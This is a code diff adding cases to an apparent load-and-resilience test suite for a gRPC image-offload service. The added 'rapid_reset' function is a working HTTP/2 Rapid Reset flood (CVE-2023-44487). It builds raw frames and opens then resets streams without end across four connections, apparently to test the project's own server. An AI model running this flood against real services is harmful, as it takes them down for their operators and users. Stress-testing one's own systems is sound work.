@@ -9,6 +9,7 @@ from __future__ import annotations
 import asyncio
 import multiprocessing
 import os
+import socket
 import struct
 import threading
 import time
@@ -35,6 +36,7 @@ from edge_sdk.wire import offload_pb2 as wire
 from edge_sdk.wire import offload_pb2_grpc as wire_grpc
 
 LIMIT_MB = 400
+_CLASSIFY = f"/{wire.DESCRIPTOR.services_by_name['Offload'].full_name}/Classify"
 _SPAWN = multiprocessing.get_context("spawn")
 Client = Callable[[str], None]
 _OPTIONS = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
@@ -122,6 +124,37 @@ def cancelled(address: str) -> None:
     together(16, leave)
 
 
+def rapid_reset(address: str) -> None:
+    """Calls that are reset as soon as they are opened, as fast as one connection takes them (CVE-2023-44487)."""
+    host, port = address.rsplit(":", 1)
+
+    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+        return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+    def literal(name: str, value: str) -> bytes:  # HPACK, RFC 7541, section 6.2.2: without indexing
+        return b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))
+
+    fields = {":method": "POST", ":scheme": "http", ":path": _CLASSIFY, ":authority": address, "te": "trailers"}
+    head = b"".join(literal(*one) for one in (fields | {"content-type": "application/grpc"}).items())
+
+    def attack(number: int) -> None:
+        while True:
+            with suppress(OSError), socket.create_connection((host, int(port))) as link:
+                link.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+                threading.Thread(target=_swallow, args=(link,), daemon=True).start()
+                for stream in range(1, 1 << 30, 200):
+                    calls = range(stream, stream + 200, 2)
+                    link.sendall(b"".join(frame(1, 4, one, head) + frame(3, 0, one, b"\0\0\0\x08") for one in calls))
+
+    together(4, attack)
+
+
+def _swallow(link: socket.socket) -> None:
+    with suppress(OSError):
+        while link.recv(1 << 16):
+            pass
+
+
 def idle(address: str) -> None:
     """1,000 connections with an open stream each, and nothing more."""
     held = []
@@ -173,6 +206,7 @@ CASES: dict[str, Client] = {
     "128 single calls of 8 MB side by side": lambda address: calls(address, 128, heavy_image),
     "16 streams repeat one frame of 8 MB": lambda address: read(address, 16, same_image),
     "16 calls of 8 MB, cancelled after 50 ms": cancelled,
+    "4 connections open calls and reset them at once": rapid_reset,
     "1,000 idle connections": idle,
     "decode: 16 streams, JPEG of 32 megapixels": lambda address: read(address, 16, pictures_of(jpeg())),
     "decode: the same, progressive 4:4:4": lambda address: read(
